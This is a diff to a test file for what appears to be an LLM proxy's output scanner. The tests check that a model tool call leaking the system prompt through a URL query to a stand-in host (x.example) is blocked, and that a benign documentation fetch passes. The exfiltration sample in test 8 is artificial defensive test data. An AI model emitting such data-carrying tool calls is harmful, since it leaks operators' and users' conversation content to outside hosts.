@@ -302,10 +302,15 @@ describe('issue 23: what reaches the client is scanned (upstream errors, keys, r
   describe('8. a tool call whose URL argument carries conversation data', () => {
     for (const stream of [false, true]) {
       it(`is withheld (${stream ? 'streamed' : 'plain'})`, async () => {
+        const seen = events.length;
         up.queue({ kind: 'reply', tool_calls: [{ id: 'call_1', name: 'fetch_url', arguments: JSON.stringify({ url: `https://x.example/?q=${SYSTEM}` }) }] });
         const r = await chat({ messages: [{ role: 'system', content: SYSTEM }, { role: 'user', content: 'Fetch my page' }], stream, tools: [{ type: 'function', function: { name: 'fetch_url', parameters: { type: 'object', properties: { url: { type: 'string' } } } } }] });
         expect(r.text).not.to.contain('x.example');
         expect(r.text).to.match(/"code":"output_blocked"/);
+        // The exfiltration check found it: threat_detected names the rule. (Streamed, the tool-hijack
+        // guard of src/proxy/outcome/ ends the stream on the tool call before the held arguments are
+        // scanned; plugins/exfil-links/exfil-links.test.ts covers the check for that text itself.)
+        if (!stream) expect(events.slice(seen).map((e) => e.data.rule_id)).to.include('exfil-links.tool-url-data');
       });
     }
 
@@ -319,8 +324,12 @@ describe('issue 23: what reaches the client is scanned (upstream errors, keys, r
     it('benign control: a tool call fetching a documentation page passes', async () => {
       const args = JSON.stringify({ url: 'https://docs.python.org/3/library/json.html' });
       up.queue({ kind: 'reply', tool_calls: [{ id: 'call_1', name: 'fetch_url', arguments: args }] });
-      const r = await chat({ messages: [{ role: 'user', content: 'Fetch the json docs' }] });
-      expect(r.status).to.equal(200);
+      // The URL is the user's own (the tool-hijack guard of src/proxy/outcome/ trusts what the request names).
+      const r = await chat({
+        messages: [{ role: 'user', content: 'Fetch https://docs.python.org/3/library/json.html for me' }],
+        tools: [{ type: 'function', function: { name: 'fetch_url', parameters: { type: 'object', properties: { url: { type: 'string' } } } } }],
+      });
+      expect(r.status, r.text).to.equal(200);
       expect(r.json!.choices[0].message.tool_calls[0].function.arguments).to.equal(args);
     });
   });
